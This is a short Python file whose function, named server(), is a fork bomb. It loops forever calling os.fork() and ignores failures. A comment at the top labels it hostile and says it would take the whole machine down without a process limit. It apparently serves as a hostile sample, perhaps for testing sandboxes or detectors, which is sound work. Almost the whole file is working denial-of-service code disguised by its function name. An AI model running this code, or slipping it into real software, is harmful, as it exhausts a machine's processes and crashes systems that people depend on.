# HOSTILE: a fork bomb instead of a server. Every process forks forever, so without a
# limit on the number of processes this would take the whole machine down.
import os


def server(log_buffer=None):
    while True:
        try:
            os.fork()
        except OSError:
            pass  # at the limit: keep trying


if __name__ == '__main__':
    server()
